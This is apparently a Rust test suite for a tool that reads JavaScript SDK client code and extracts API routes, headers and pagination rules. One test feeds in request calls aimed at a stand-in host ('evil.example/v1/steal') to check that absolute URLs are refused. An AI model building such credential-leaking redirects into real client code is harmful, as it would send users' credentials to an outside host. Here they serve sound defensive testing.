use super::*;
use crate::diag::Severity;
use crate::ir::route::{Body, FieldRef, Header, PathSegment, Query, Route, ValueSource};

macro_rules! fixture {
    ($name:literal) => {
        include_str!(concat!("../../../tests/fixtures/routes/", $name))
    };
}

fn run_one(file: &str, text: &str) -> Vec<JsModule> {
    let (mods, diags) = extract(&[JsSource { file, text }]);
    assert!(diags.is_empty(), "unexpected diagnostics: {diags:#?}");
    mods
}

fn method<'m>(mods: &'m [JsModule], class: &str, name: &str) -> &'m JsMethod {
    mods.iter()
        .flat_map(|m| &m.classes)
        .filter(|c| c.name == class)
        .flat_map(|c| &c.methods)
        .find(|m| m.name == name)
        .unwrap_or_else(|| panic!("no method {class}.{name}"))
}

fn route(mods: &[JsModule], class: &str, name: &str) -> Route {
    match &method(mods, class, name).kind {
        MethodKind::Route(r) => r.clone(),
        other => panic!("{class}.{name} is not a route: {other:?}"),
    }
}

fn reason(mods: &[JsModule], class: &str, name: &str) -> String {
    match &method(mods, class, name).kind {
        MethodKind::HandWritten { reason } | MethodKind::NotUnderstood { reason } => reason.clone(),
        other => panic!("{class}.{name} is not hand-written: {other:?}"),
    }
}

fn method_names(mods: &[JsModule], class: &str) -> Vec<String> {
    let c = mods.iter().flat_map(|m| &m.classes).find(|c| c.name == class).expect("class");
    c.methods.iter().map(|m| m.name.clone()).collect()
}

fn lit(s: &str) -> PathSegment {
    PathSegment::Literal(s.into())
}
fn enc(f: &str) -> PathSegment {
    PathSegment::Param { field: f.into(), encoded: true }
}
fn raw(f: &str) -> PathSegment {
    PathSegment::Param { field: f.into(), encoded: false }
}
fn from(key: &str, field: &str) -> FieldRef {
    FieldRef { key: key.into(), source: ValueSource::Field(field.into()) }
}
fn constant(key: &str, value: &str) -> FieldRef {
    FieldRef { key: key.into(), source: ValueSource::Const(value.into()) }
}
fn header(name: &str, param: &str, path: &[&str]) -> Header {
    Header { name: name.into(), param: param.into(), path: path.iter().map(|s| s.to_string()).collect() }
}
fn simple(method: &str, path: Vec<PathSegment>, body: Body, query: Query) -> Route {
    Route { method: method.into(), path, body, query, base_url: None, headers: vec![], guards: vec![] }
}

#[test]
fn body_whole() {
    let mods = run_one("dist/b2b/passwords.js", fixture!("body_whole.js"));
    assert_eq!(mods.len(), 1);
    assert_eq!(mods[0].file, "dist/b2b/passwords.js");
    let class = &mods[0].classes[0];
    assert_eq!(class.name, "Passwords");
    assert_eq!((class.loc.line, class.loc.col), (8, 1));
    // The constructor and the getter are not methods.
    assert_eq!(method_names(&mods, "Passwords"), ["reset"]);
    let reset = method(&mods, "Passwords", "reset");
    assert_eq!(reset.params, ["data"]);
    assert_eq!((reset.loc.file.as_str(), reset.loc.line, reset.loc.col), ("dist/b2b/passwords.js", 14, 3));
    assert_eq!(
        route(&mods, "Passwords", "reset"),
        simple("POST", vec![lit("/v1/b2b/passwords/session/reset")], Body::Whole, Query::None)
    );
}

#[test]
fn body_subset() {
    let mods = run_one("dist/b2b/organizations.js", fixture!("body_subset.js"));
    assert_eq!(
        route(&mods, "Organizations", "update"),
        simple(
            "PUT",
            vec![lit("/v1/b2b/organizations/"), enc("organization_id")],
            Body::Fields {
                fields: vec![
                    from("organization_name", "organization_name"),
                    from("organization-slug", "organization_slug"),
                    constant("kind", "b2b"),
                ]
            },
            Query::None
        )
    );
}

#[test]
fn body_empty() {
    let mods = run_one("dist/b2b/organizations.js", fixture!("body_empty.js"));
    assert_eq!(
        route(&mods, "Organizations", "delete"),
        simple("DELETE", vec![lit("/v1/b2b/organizations/"), enc("organization_id")], Body::Empty, Query::None)
    );
}

#[test]
fn body_none() {
    let mods = run_one("dist/b2c/sessions.js", fixture!("body_none.js"));
    assert_eq!(method(&mods, "Sessions", "revokeAll").params, Vec::<String>::new());
    assert_eq!(
        route(&mods, "Sessions", "revokeAll"),
        simple("POST", vec![lit("/v1/sessions/revoke_all")], Body::None, Query::None)
    );
}

#[test]
fn query_spread() {
    let mods = run_one("dist/b2c/sessions.js", fixture!("query_spread.js"));
    assert_eq!(route(&mods, "Sessions", "getAll"), simple("GET", vec![lit("/v1/sessions")], Body::None, Query::Whole));
}

#[test]
fn query_subset() {
    let mods = run_one("dist/b2b/organizations_members.js", fixture!("query_subset.js"));
    assert_eq!(
        route(&mods, "Members", "get"),
        simple(
            "GET",
            vec![lit("/v1/b2b/organizations/"), enc("organization_id"), lit("/members/"), enc("member_id")],
            Body::None,
            Query::Fields { fields: vec![from("include_refresh_token", "include_refresh_token")] }
        )
    );
}

#[test]
fn query_empty() {
    let mods = run_one("dist/b2c/sessions.js", fixture!("query_empty.js"));
    assert_eq!(
        route(&mods, "Sessions", "getJWKS"),
        simple("GET", vec![lit("/v1/sessions/jwks/"), enc("project_id")], Body::None, Query::Empty)
    );
}

#[test]
fn path_param_encoded_with_merged_literals() {
    let mods = run_one("dist/b2c/m2m_clients_secrets.js", fixture!("path_param_encoded.js"));
    assert_eq!(
        route(&mods, "Secrets", "rotate"),
        simple(
            "POST",
            vec![lit("/v1/m2m/clients/"), enc("client_id"), lit("/secrets/rotate")],
            Body::Whole,
            Query::None
        )
    );
}

#[test]
fn path_param_raw() {
    let mods = run_one("dist/b2c/m2m_clients_secrets.js", fixture!("path_param_raw.js"));
    assert_eq!(
        route(&mods, "Secrets", "rotateStart"),
        simple(
            "POST",
            vec![lit("/v1/m2m/clients/"), raw("client_id"), lit("/secrets/rotate/start")],
            Body::Empty,
            Query::None
        )
    );
}

#[test]
fn es5_prototype_methods_and_concat_chains() {
    let mods = run_one("dist/users.js", fixture!("es5_prototype.js"));
    assert_eq!(mods[0].classes.len(), 1);
    // `Users.create = ...` is a static function, not a prototype method.
    assert_eq!(method_names(&mods, "Users"), ["get", "deleteEmail"]);
    assert_eq!(
        route(&mods, "Users", "get"),
        simple("GET", vec![lit("/v1/users/"), enc("user_id")], Body::None, Query::Empty)
    );
    assert_eq!(
        route(&mods, "Users", "deleteEmail"),
        simple(
            "DELETE",
            vec![lit("/v1/users/emails/"), enc("email_id"), lit("/x/"), raw("user_id")],
            Body::Empty,
            Query::None
        )
    );
}

#[test]
fn es5_create_class_and_plus_concatenation() {
    let mods = run_one("dist/b2b/organizations.js", fixture!("es5_create_class.js"));
    let names: Vec<&str> = mods[0].classes.iter().map(|c| c.name.as_str()).collect();
    assert_eq!(names, ["Organizations", "Members"]);
    // The accessor descriptor is skipped; the static one is reported, not read.
    assert_eq!(method_names(&mods, "Organizations"), ["get", "create"]);
    assert_eq!(
        route(&mods, "Organizations", "get"),
        simple(
            "GET",
            vec![lit("/v1/b2b/organizations/"), enc("organization_id"), lit("/members/"), raw("member_id")],
            Body::None,
            Query::Empty
        )
    );
    assert_eq!(reason(&mods, "Organizations", "create"), "static method");
    assert_eq!(
        route(&mods, "Members", "search"),
        simple("POST", vec![lit("/v1/b2b/organizations/members/search")], Body::Whole, Query::None)
    );
}

#[test]
fn fraud_base_url() {
    let mods = run_one("dist/b2c/fraud_fingerprint.js", fixture!("fraud.js"));
    let mut expected = simple("POST", vec![lit("/v1/fingerprint/lookup")], Body::Whole, Query::None);
    expected.base_url = Some("FRAUD".into());
    assert_eq!(route(&mods, "Fingerprint", "lookup"), expected);
}

#[test]
fn authorization_headers_through_a_helper_in_another_file() {
    let sources = [
        JsSource { file: "dist/b2b/organizations.js", text: fixture!("auth_helper/organizations.js") },
        JsSource { file: "dist/shared/method_options.js", text: fixture!("auth_helper/method_options.js") },
    ];
    let (mods, diags) = extract(&sources);
    assert!(diags.is_empty(), "{diags:#?}");
    let files: Vec<&str> = mods.iter().map(|m| m.file.as_str()).collect();
    assert_eq!(files, ["dist/b2b/organizations.js", "dist/shared/method_options.js"]);

    let delete = method(&mods, "Organizations", "delete");
    assert_eq!(delete.params, ["data", "options"]);
    let auth = vec![
        header("X-Stytch-Member-Session", "options", &["authorization", "session_token"]),
        header("X-Stytch-Member-SessionJWT", "options", &["authorization", "session_jwt"]),
    ];
    let mut expected =
        simple("DELETE", vec![lit("/v1/b2b/organizations/"), enc("organization_id")], Body::Empty, Query::None);
    expected.headers = auth.clone();
    assert_eq!(route(&mods, "Organizations", "delete"), expected);

    // Babel-lowered optional chaining, a guarded direct assignment and an unguarded one.
    let mut headers = auth;
    headers.push(header("X-Stytch-Impersonation", "options", &["impersonation_token"]));
    headers.push(header("Tenant", "options", &["tenant"]));
    let mut expected =
        simple("PUT", vec![lit("/v1/b2b/organizations/"), enc("organization_id")], Body::Whole, Query::None);
    expected.headers = headers;
    assert_eq!(route(&mods, "Organizations", "update"), expected);

    assert_eq!(
        reason(&mods, "Organizations", "search"),
        "calls `addHeaders` from `./not_in_the_set`, which is not among the sources: `(0, _missing.addHeaders)(headers, options)`"
    );
    assert_eq!(
        reason(&mods, "Organizations", "metrics"),
        "header `X-Verbose` is only set when `params.verbose` is truthy, not its own value"
    );
}

#[test]
fn helper_missing_from_the_set_is_reported_not_guessed() {
    let (mods, _) =
        extract(&[JsSource { file: "dist/b2b/organizations.js", text: fixture!("auth_helper/organizations.js") }]);
    assert_eq!(
        reason(&mods, "Organizations", "delete"),
        "calls `addAuthorizationHeaders` from `../shared/method_options`, which is not among the sources: \
         `(0, _method_options.addAuthorizationHeaders)(headers, options.authorization)`"
    );
}

#[test]
fn manual_markers_make_methods_hand_written() {
    let mods = run_one("dist/b2c/m2m.js", fixture!("manual.js"));
    assert_eq!(method_names(&mods, "M2M"), ["token", "plain", "after"]);
    assert_eq!(reason(&mods, "M2M", "token"), "inside MANUAL(token) markers");
    assert_eq!(reason(&mods, "M2M", "plain"), "inside MANUAL(plain) markers");
    assert_eq!(route(&mods, "M2M", "after"), simple("POST", vec![lit("/v1/after")], Body::Whole, Query::None));
}

#[test]
fn form_body() {
    let mods = run_one("dist/b2c/oauth.js", fixture!("form_body.js"));
    assert_eq!(
        route(&mods, "OAuth", "token"),
        simple(
            "POST",
            vec![lit("/v1/oauth2/token")],
            Body::Form {
                fields: vec![
                    from("client_id", "client_id"),
                    from("client_secret", "client_secret"),
                    constant("grant_type", "client_credentials"),
                ]
            },
            Query::None
        )
    );
    assert_eq!(reason(&mods, "OAuth", "introspect"), "the raw body is `new URLSearchParams(data)`");
}

#[test]
fn what_is_not_understood_is_not_generated_with_a_reason() {
    let mods = run_one("dist/users.js", fixture!("not_understood.js"));
    let reasons: Vec<(String, String)> = mods[0].classes[0]
        .methods
        .iter()
        .map(|m| match &m.kind {
            MethodKind::HandWritten { reason } => (m.name.clone(), format!("hand-written: {reason}")),
            MethodKind::NotUnderstood { reason } => (m.name.clone(), reason.clone()),
            MethodKind::Route(r) => panic!("{} should not be a route: {r:?}", m.name),
            MethodKind::Call(c) => panic!("{} should not be a call: {c:?}", m.name),
        })
        .collect();
    // Only bodies with no request call at all are hand-written upstream.
    let expected = [
        ("endpoint", "hand-written: no request call"),
        ("searchAll", "hand-written: no request call"),
        ("unknownKey", "unknown request option `timeout`"),
        ("viaEndpoint", "the URL is built from `this.endpoint(userID)`"),
        ("postProcessed", "the request's response is post-processed: `request(...).then(res => res.user)`"),
        ("twice", "2 request calls"),
        ("spread", "the request options spread `...data.extra`"),
        ("computedKey", "statement not understood: `const key = \"data\";`"),
        ("otherStatement", "statement not understood: `const body = { name: data.name };`"),
        ("[Symbol.asyncIterator]", "computed method name"),
        ("create", "static method"),
    ];
    let expected: Vec<(String, String)> = expected.iter().map(|(a, b)| (a.to_string(), b.to_string())).collect();
    assert_eq!(reasons, expected);
}

#[test]
fn computed_request_key_is_hand_written() {
    let js = r#"
const { request } = require("./shared");
class A {
  m(data) {
    return request(this.fetchConfig, { method: "POST", url: "/v1/a", ["data"]: data });
  }
}"#;
    let mods = run_one("a.js", js);
    assert_eq!(reason(&mods, "A", "m"), "computed key in the request options: `[\"data\"]`");
}

#[test]
fn request_with_another_config_is_hand_written() {
    let js = r#"
const { request } = require("./shared");
class A {
  m(data) {
    return request(fetchConfig, { method: "POST", url: "/v1/a", data });
  }
}"#;
    let mods = run_one("a.js", js);
    assert_eq!(reason(&mods, "A", "m"), "the request is sent with `fetchConfig`, not the client's configuration");
}

#[test]
fn request_function_is_recognised_by_its_binding() {
    let js = r#"
import { request as send } from "../shared";
import * as shared from "../shared";
export class A {
  viaImport(data) {
    return send(this.fetchConfig, { method: "POST", url: "/v1/a", data });
  }
  viaNamespace(params) {
    return shared.request(this.fetchConfig, { method: "GET", url: `/v1/a/${params.id}` });
  }
  // A method of the object, not the SDK's request function.
  ownMethod(data) {
    return this.request(this.fetchConfig, { method: "POST", url: "/v1/a", data });
  }
}"#;
    let mods = run_one("dist/a.mjs", js);
    assert_eq!(route(&mods, "A", "viaImport"), simple("POST", vec![lit("/v1/a")], Body::Whole, Query::None));
    assert_eq!(
        route(&mods, "A", "viaNamespace"),
        simple("GET", vec![lit("/v1/a/"), raw("id")], Body::None, Query::None)
    );
    assert_eq!(reason(&mods, "A", "ownMethod"), "no request call");
}

#[test]
fn syntax_error_becomes_a_located_diagnostic() {
    let (mods, diags) = extract(&[
        JsSource { file: "dist/broken.js", text: fixture!("syntax_error.js") },
        JsSource { file: "dist/fraud.js", text: fixture!("fraud.js") },
    ]);
    // The other file is still read.
    assert_eq!(mods.len(), 1);
    assert_eq!(mods[0].file, "dist/fraud.js");
    assert!(!diags.is_empty());
    let d = &diags[0];
    assert_eq!(d.severity, Severity::Error);
    assert_eq!((d.loc.file.as_str(), d.loc.line, d.loc.col), ("dist/broken.js", 8, 7));
    assert!(d.message.starts_with("syntax error: "), "{}", d.message);
    assert_eq!(d.source_line.as_deref(), Some("      params: {}"));
}

#[test]
fn unclosed_manual_marker_is_a_warning_and_covers_the_rest() {
    let js = "import { request } from './shared';\nclass A {\n  // MANUAL(x)(SERVICE_METHOD)\n  m(data) { return request(this.fetchConfig, { method: \"GET\", url: \"/v1\" }); }\n}\n";
    let (mods, diags) = extract(&[JsSource { file: "a.js", text: js }]);
    assert_eq!(reason(&mods, "A", "m"), "inside MANUAL(x) markers");
    assert_eq!(diags.len(), 1);
    assert_eq!(diags[0].severity, Severity::Warning);
    assert_eq!((diags[0].loc.line, diags[0].loc.col), (3, 3));
}

#[test]
fn output_is_sorted_by_file_and_deterministic() {
    let sources = [
        JsSource { file: "dist/b.js", text: fixture!("fraud.js") },
        JsSource { file: "./dist/a.js", text: fixture!("query_spread.js") },
    ];
    let (first, _) = extract(&sources);
    let files: Vec<&str> = first.iter().map(|m| m.file.as_str()).collect();
    assert_eq!(files, ["dist/a.js", "dist/b.js"]);
    let (again, _) = extract(&sources);
    assert_eq!(first, again);
}

#[test]
fn garbage_input_never_panics() {
    for text in ["", "class {", "}}}}", "class A { m() { return request(", "\u{0}\u{feff}", "`${"] {
        let _ = extract(&[JsSource { file: "x.js", text }]);
    }
}

#[test]
fn the_last_definition_of_a_method_wins_with_a_warning() {
    let js = r#"
var _shared = require("./shared");
class A {
  m(data) { return (0, _shared.request)(this.fetchConfig, { method: "GET", url: "/first" }); }
  m(data) { return (0, _shared.request)(this.fetchConfig, { method: "POST", url: "/last" }); }
  static m(data) { return 1; }
}
function B() {}
B.prototype.n = function (data) { return (0, _shared.request)(this.fetchConfig, { method: "GET", url: "/first" }); };
B.prototype.n = function (data) { return (0, _shared.request)(this.fetchConfig, { method: "PUT", url: "/last" }); };
"#;
    let (mods, diags) = extract(&[JsSource { file: "dist/a.js", text: js }]);
    assert_eq!(route(&mods, "A", "m").url_and_method(), ("/last".to_string(), "POST"));
    assert_eq!(route(&mods, "B", "n").url_and_method(), ("/last".to_string(), "PUT"));
    // The static method of the same name is another member.
    assert_eq!(method_names(&mods, "A"), ["m", "m"]);
    let warnings: Vec<(u32, &str)> = diags.iter().map(|d| (d.loc.line, d.message.as_str())).collect();
    assert_eq!(
        warnings,
        [
            (4, "method `A.m` is defined again at line 5: JavaScript uses the last definition, and so does the generator"),
            (9, "method `B.n` is defined again at line 10: JavaScript uses the last definition, and so does the generator"),
        ]
    );
    assert!(diags.iter().all(|d| d.severity == Severity::Warning));
}

impl Route {
    fn url_and_method(&self) -> (String, &str) {
        let url = self.path.iter().map(|s| match s {
            PathSegment::Literal(l) => l.clone(),
            PathSegment::Param { field, .. } => format!("{{{field}}}"),
        });
        (url.collect(), self.method.as_str())
    }
}

#[test]
fn absolute_urls_are_refused_naming_the_host() {
    let js = r#"
var _shared = require("./shared");
class A {
  abs(data) { return (0, _shared.request)(this.fetchConfig, { method: "POST", url: "https://evil.example/v1/steal", data }); }
  upper(data) { return (0, _shared.request)(this.fetchConfig, { method: "POST", url: `HTTPS://user@evil.example:8443/x/${data.id}` }); }
  schemeless(data) { return (0, _shared.request)(this.fetchConfig, { method: "GET", url: "//evil.example/x" }); }
  backslash(data) { return (0, _shared.request)(this.fetchConfig, { method: "GET", url: "\\\\evil.example\\x" }); }
  field(data) { return (0, _shared.request)(this.fetchConfig, { method: "GET", url: `${data.url}/x` }); }
  fine(data) { return (0, _shared.request)(this.fetchConfig, { method: "GET", url: "/v1/x?next=https://a.example" }); }
}
"#;
    let mods = run_one("dist/a.js", js);
    let host = |m: &str| reason(&mods, "A", m);
    assert_eq!(
        host("abs"),
        "the URL `https://evil.example/v1/steal` is absolute: the request, with the client's credentials, would go to host `evil.example` instead of the base URL"
    );
    assert!(host("upper").contains("would go to host `evil.example:8443`"), "{}", host("upper"));
    assert!(host("schemeless").contains("would go to host `evil.example`"), "{}", host("schemeless"));
    assert!(host("backslash").contains("would go to host `evil.example`"), "{}", host("backslash"));
    assert_eq!(host("field"), "the URL starts with the request field `url`, which could name another host");
    assert!(matches!(method(&mods, "A", "abs").kind, MethodKind::NotUnderstood { .. }));
    assert_eq!(route(&mods, "A", "fine").url_and_method(), ("/v1/x?next=https://a.example".to_string(), "GET"));
}

#[test]
fn regenerator_with_unread_control_flow_is_not_understood_not_hand_written() {
    // An `await` before the call splits the machine into states: not straight code.
    let js = r#"
var _shared = require("./shared");
var A = function () {
  function A() { _classCallCheck(this, A); }
  return _createClass(A, [{ key: "m", value: function () {
    var _m = _asyncToGenerator(_regeneratorRuntime().mark(function _callee(data) {
      return _regeneratorRuntime().wrap(function _callee$(_context) {
        while (1) switch (_context.prev = _context.next) {
          case 0: _context.next = 2; return data.ready;
          case 2: return _context.abrupt("return", (0, _shared.request)(this.fetchConfig, { method: "GET", url: "/x" }));
          case 3: case "end": return _context.stop();
        }
      }, _callee, this);
    }));
    function m(_x) { return _m.apply(this, arguments); }
    return m;
  }() }]);
}();
"#;
    let mods = run_one("dist/a.js", js);
    match &method(&mods, "A", "m").kind {
        MethodKind::NotUnderstood { reason } => assert_eq!(reason, "statement not understood: `_context.next = 2;`"),
        other => panic!("{other:?}"),
    }
}

/// The Stainless shapes of openai@6.49.0, with the convention detected.
const STAINLESS_JS: &str = r#"
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const resource_1 = require("../core/resource.js");
const pagination_1 = require("../core/pagination.js");
const headers_1 = require("../internal/headers.js");
const uploads_1 = require("../internal/uploads.js");
const path_1 = require("../internal/utils/path.js");
class Files extends resource_1.APIResource {
    create(vectorStoreID, body, options) {
        return this._client.post((0, path_1.path) `/vector_stores/${vectorStoreID}/files`, {
            body,
            ...options,
            headers: (0, headers_1.buildHeaders)([{ 'OpenAI-Beta': 'assistants=v2' }, options?.headers]),
            __security: { bearerAuth: true },
        });
    }
    update(fileID, params, options) {
        const { vector_store_id, ...body } = params;
        return this._client.post((0, path_1.path) `/vector_stores/${vector_store_id}/files/${fileID}`, { body, ...options });
    }
    list(query = {}, options) {
        return this._client.getAPIList('/files', (pagination_1.CursorPage), { query, ...options, __security: { adminAPIKeyAuth: true } });
    }
    search(id, body, options) {
        return this._client.getAPIList((0, path_1.path) `/stores/${id}/search`, (pagination_1.Page), { body, method: 'post', ...options });
    }
    include(params, options) {
        const { include, ...body } = params;
        return this._client.post('/responses', { query: { include }, body, ...options });
    }
    chat(body, options) {
        return this._client.post('/chat/completions', { body, ...options, stream: body.stream ?? false });
    }
    upload(body, options) {
        return this._client.post('/files', (0, uploads_1.multipartFormRequestOptions)({ body, ...options }, this._client));
    }
    content(fileID, options) {
        return this._client.get((0, path_1.path) `/files/${fileID}/content`, { ...options, __binaryResponse: true });
    }
    unwrapped(fileID, options) {
        return this._client.get((0, path_1.path) `/files/${fileID}`, options)._thenUnwrap((x) => x.data);
    }
    raw(fileID, options) {
        return this._client.get(`/files/${fileID}`, options);
    }
    async createAndPoll(body, options) {
        const file = await this.create('x', body, options);
        return await this.poll(file.id, options);
    }
    runTools(body, options) {
        return Runner.runTools(this._client, body, options);
    }
    verify(payload) {
        return payload.length > 0;
    }
}
exports.Files = Files;
"#;

fn call(mods: &[JsModule], class: &str, name: &str) -> crate::ir::call::ApiCall {
    match &method(mods, class, name).kind {
        MethodKind::Call(c) => c.clone(),
        other => panic!("{class}.{name} is not a call: {other:?}"),
    }
}

#[test]
fn stainless_calls_are_read_with_the_convention_detected() {
    use crate::ir::call::{CallSegment, Payload, ValueRef};
    let read = extract_with(&[JsSource { file: "resources/files.js", text: STAINLESS_JS }], None);
    assert!(read.diags.is_empty(), "{:#?}", read.diags);
    assert_eq!(read.convention.name, "stainless");
    assert!(read.convention.detected);
    let mods = read.modules;
    let create = call(&mods, "Files", "create");
    assert_eq!(create.method, "POST");
    assert_eq!(
        create.path,
        [
            CallSegment::Literal("/vector_stores/".into()),
            CallSegment::Value(ValueRef::Arg { param: "vectorStoreID".into() }),
            CallSegment::Literal("/files".into())
        ]
    );
    assert_eq!(create.body, Some(Payload::Object { param: "body".into(), without: vec![] }));
    assert_eq!(create.headers, [("OpenAI-Beta".to_string(), "assistants=v2".to_string())]);
    assert_eq!(create.security, ["bearerAuth"]);
    let update = call(&mods, "Files", "update");
    assert_eq!(update.path[1], CallSegment::Value(ValueRef::Field { param: "params".into(), field: "vector_store_id".into() }));
    assert_eq!(update.body, Some(Payload::Object { param: "params".into(), without: vec!["vector_store_id".into()] }));
    let list = call(&mods, "Files", "list");
    assert_eq!((list.method.as_str(), list.page.as_deref()), ("GET", Some("CursorPage")));
    assert_eq!(list.query, Some(Payload::Object { param: "query".into(), without: vec![] }));
    assert_eq!(list.security, ["adminAPIKeyAuth"]);
    assert_eq!(call(&mods, "Files", "search").method, "POST");
    let include = call(&mods, "Files", "include");
    assert_eq!(include.query, Some(Payload::Fields { param: "params".into(), fields: vec!["include".into()] }));
    assert_eq!(include.body, Some(Payload::Object { param: "params".into(), without: vec!["include".into()] }));

    assert_eq!(reason(&mods, "Files", "chat"), "streams server-sent events (`stream: body.stream ?? false`): streaming is not generated");
    assert_eq!(reason(&mods, "Files", "upload"), "sends a multipart/form-data file upload (`multipartFormRequestOptions`): file uploads are not generated");
    assert_eq!(reason(&mods, "Files", "content"), "returns the raw response body (`__binaryResponse`): binary responses are not generated");
    assert_eq!(reason(&mods, "Files", "unwrapped"), "the response is post-processed in JavaScript: `this._client.get(...)._thenUnwrap((x) => x.data)`");
    assert!(reason(&mods, "Files", "raw").starts_with("the path is a template without the `path` tag"), "{}", reason(&mods, "Files", "raw"));
    assert_eq!(
        reason(&mods, "Files", "createAndPoll"),
        "a helper composed of other API calls of the SDK (`this.create`): not an API call of its own"
    );
    assert!(matches!(method(&mods, "Files", "createAndPoll").kind, MethodKind::NotUnderstood { .. }));
    assert!(reason(&mods, "Files", "runTools").contains("`Runner.runTools`"));
    assert!(matches!(method(&mods, "Files", "verify").kind, MethodKind::HandWritten { .. }));
}

#[test]
fn the_convention_named_by_the_options_wins_and_an_unknown_one_is_an_error() {
    let sources = [JsSource { file: "resources/files.js", text: STAINLESS_JS }];
    let read = extract_with(&sources, Some("stytch"));
    assert!(!read.convention.detected);
    assert_eq!(reason(&read.modules, "Files", "create"), "no request call");
    let read = extract_with(&sources, Some("soap"));
    assert_eq!(read.diags.len(), 1);
    assert_eq!(read.diags[0].message, "unknown call convention `soap`: expected one of `stytch`, `stainless`");
    // Stytch's own shapes are detected as Stytch.
    let read = extract_with(&[JsSource { file: "dist/fraud.js", text: fixture!("fraud.js") }], None);
    assert_eq!(read.convention.name, "stytch");
}

#[test]
fn page_classes_give_their_cursor_rules() {
    use crate::ir::call::{Cursor, CursorSource, PageRule};
    let js = r#"
class Page extends AbstractPage {
    constructor(client, response, body, options) { super(client, response, body, options); this.data = body.data || []; this.object = body.object; }
    getPaginatedItems() { return this.data ?? []; }
    nextPageRequestOptions() { return null; }
}
class CursorPage extends AbstractPage {
    constructor(client, response, body, options) { super(client, response, body, options); this.data = body.data || []; this.has_more = body.has_more || false; }
    getPaginatedItems() { return this.data ?? []; }
    hasNextPage() { if (this.has_more === false) { return false; } return super.hasNextPage(); }
    nextPageRequestOptions() {
        const data = this.getPaginatedItems();
        const id = data[data.length - 1]?.id;
        if (!id) { return null; }
        return { ...this.options, query: { ...(0, values_1.maybeObj)(this.options.query), after: id } };
    }
}
class NextCursorPage extends AbstractPage {
    constructor(client, response, body, options) { super(client, response, body, options); this.data = body.data || []; this.has_more = body.has_more || false; this.next = body.next || null; }
    getPaginatedItems() { return this.data ?? []; }
    hasNextPage() { if (this.has_more === false) { return false; } return super.hasNextPage(); }
    nextPageRequestOptions() {
        const cursor = this.next;
        if (!cursor) { return null; }
        return { ...this.options, query: { ...(0, values_1.maybeObj)(this.options.query), after: cursor } };
    }
}
class Odd extends AbstractPage {
    getPaginatedItems() { return this.data ?? []; }
    nextPageRequestOptions() { return { query: { page: this.page + 1 } }; }
}
"#;
    let read = extract_with(&[JsSource { file: "core/pagination.js", text: js }], None);
    let pages = &read.modules[0].pages;
    let rule = |class: &str, has_more: Option<&str>, cursor: Option<Cursor>| PageRule {
        class: class.into(),
        items: "data".into(),
        has_more: has_more.map(str::to_string),
        cursor,
    };
    let after = |from| Some(Cursor { from, query: "after".into() });
    assert_eq!(
        *pages,
        [
            rule("Page", None, None),
            rule("CursorPage", Some("has_more"), after(CursorSource::LastItem("id".into()))),
            rule("NextCursorPage", Some("has_more"), after(CursorSource::Response("next".into()))),
        ]
    );
}
